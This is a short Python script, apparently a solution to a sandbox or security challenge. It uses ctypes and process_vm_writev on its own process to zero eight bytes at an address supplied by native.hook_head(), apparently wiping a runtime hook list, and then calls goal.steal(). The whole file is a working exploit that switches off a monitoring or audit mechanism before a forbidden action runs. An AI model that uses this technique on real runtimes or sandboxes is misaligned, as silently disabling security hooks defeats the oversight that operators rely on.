# SPDX-License-Identifier: Apache-2.0
import goal
import ctypes
import os
import native


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


zero = ctypes.create_string_buffer(8)
local = Vector(ctypes.addressof(zero), 8)
remote = Vector(native.hook_head(), 8)
native.libc.process_vm_writev(os.getpid(), ctypes.byref(local), 1,
                              ctypes.byref(remote), 1, 0)
goal.steal()
